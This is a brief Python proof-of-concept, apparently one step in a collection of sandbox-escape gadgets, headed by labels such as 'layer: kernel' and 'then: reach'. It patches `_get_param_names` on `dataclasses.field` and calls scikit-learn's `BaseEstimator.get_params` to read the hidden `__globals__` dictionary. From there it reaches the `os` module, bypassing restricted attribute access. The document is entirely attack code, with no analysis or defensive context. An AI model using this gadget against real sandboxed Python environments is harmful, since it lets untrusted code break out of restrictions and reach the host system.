# layer: kernel
# proves: get_params reads any name of any object
# oracle: drop
# then: reach
# needs: sklearn

from sklearn.base import BaseEstimator
import dataclasses
fn = dataclasses.field
fn._get_param_names = lambda: ['__globals__']
g = BaseEstimator.get_params(fn, deep=False)['__globals__']
print(g['sys'].modules['os'])
